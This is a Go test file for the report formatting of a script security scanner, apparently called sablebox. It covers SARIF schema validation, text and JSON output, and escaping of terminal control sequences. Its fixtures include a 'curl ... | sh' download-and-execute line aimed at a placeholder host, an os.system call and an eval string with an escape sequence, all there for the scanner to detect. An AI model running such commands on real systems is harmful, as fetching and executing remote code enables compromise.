package report

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xeipuuv/gojsonschema"

	"github.com/sablebox/sablebox/pkg/analysis"
)

// The SARIF 2.1.0 schema is OASIS's, as published in
// github.com/oasis-tcs/sarif-spec (sarif-2.1/schema/sarif-schema-2.1.0.json
// at a560296ca8c921f3bdb8d4a8db57ab83dae968a7), kept here so that the
// test runs offline.
const sarifSchema = "testdata/sarif-schema-2.1.0.json"

// The examples: every good one scans clean, the escape example is caught.
func TestExamples(t *testing.T) {
	files := Collect(context.Background(), []string{"../../../examples"}, "", analysis.Options{})
	if len(files) < 10 {
		t.Fatalf("found %d tool files in examples/", len(files))
	}
	for _, f := range files {
		bad := filepath.Base(f.Path) == "escape.py"
		if f.Err != nil || bad != (len(f.Findings) > 0) {
			t.Errorf("%s: %d findings, %v (bad: %v)", f.Path, len(f.Findings), f.Err, bad)
		}
	}
}

// The SARIF log of a scan with findings and a file that cannot be
// scanned validates against the SARIF 2.1.0 schema, and carries the
// findings where code-scanning pages look for them.
func TestSARIFValidatesAgainstTheSchema(t *testing.T) {
	dir := t.TempDir()
	write := func(name, content string) string {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
		return p
	}
	write("bad.py", "import os\nos.system('id')\n")
	write("bad.sh", "curl -s https://example.invalid | sh\n")
	write("broken.sh", "if then (\n")
	write("README.md", "not a tool\n")
	files := Collect(context.Background(), []string{dir, filepath.Join(dir, "missing.py")}, "", analysis.Options{})
	var out bytes.Buffer
	if err := SARIF(&out, files, "1.2.3"); err != nil {
		t.Fatal(err)
	}
	schema, err := os.ReadFile(sarifSchema)
	if err != nil {
		t.Fatal(err)
	}
	result, err := gojsonschema.Validate(gojsonschema.NewBytesLoader(schema), gojsonschema.NewBytesLoader(out.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range result.Errors() {
		t.Errorf("schema: %s", e)
	}
	var log struct {
		Runs []struct {
			Results []struct {
				RuleID    string `json:"ruleId"`
				Level     string `json:"level"`
				Locations []struct {
					PhysicalLocation struct {
						ArtifactLocation struct{ URI string }    `json:"artifactLocation"`
						Region           struct{ StartLine int } `json:"region"`
					} `json:"physicalLocation"`
				} `json:"locations"`
			} `json:"results"`
			Invocations []struct {
				ExecutionSuccessful bool `json:"executionSuccessful"`
			} `json:"invocations"`
		} `json:"runs"`
	}
	if err := json.Unmarshal(out.Bytes(), &log); err != nil || len(log.Runs) != 1 {
		t.Fatalf("%v: %s", err, out.Bytes())
	}
	run := log.Runs[0]
	rules := map[string]bool{}
	for _, r := range run.Results {
		rules[r.RuleID] = true
		loc := r.Locations[0].PhysicalLocation
		if r.Level != "error" || loc.Region.StartLine < 1 || !strings.HasSuffix(loc.ArtifactLocation.URI, ".py") && !strings.HasSuffix(loc.ArtifactLocation.URI, ".sh") {
			t.Errorf("result %+v", r)
		}
	}
	if !rules["py.process.os-system"] || !rules["sh.exec.download"] || run.Invocations[0].ExecutionSuccessful {
		t.Errorf("results %v, invocation %+v", rules, run.Invocations)
	}
}

// Text and JSON name the file that could not be scanned and why, and
// escape what a terminal would obey.
func TestTextAndJSON(t *testing.T) {
	files := []File{
		{Path: "a.py", Lang: "python", Findings: []analysis.Finding{{Rule: "py.dynamic.eval", Severity: analysis.Critical, Line: 2, Column: 1, Text: "eval('\x1b]0;pwned\x07')", Message: "eval: runs code"}}},
		{Path: "b.sh", Err: os.ErrPermission},
	}
	var text bytes.Buffer
	if err := Text(&text, files, analysis.High); err != nil {
		t.Fatal(err)
	}
	if s := text.String(); strings.ContainsRune(s, 0x1b) || !strings.Contains(s, "a.py:2:1: critical [py.dynamic.eval]") ||
		!strings.Contains(s, "b.sh: error: permission denied") || !strings.Contains(s, "1 at or above high") {
		t.Fatalf("text:\n%s", s)
	}
	var js bytes.Buffer
	if err := JSON(&js, files); err != nil {
		t.Fatal(err)
	}
	var back struct {
		Files []jsonFile `json:"files"`
	}
	if err := json.Unmarshal(js.Bytes(), &back); err != nil || len(back.Files) != 2 || back.Files[0].Findings[0].Severity != "critical" || back.Files[1].Error == "" {
		t.Fatalf("%v: %s", err, js.Bytes())
	}
}
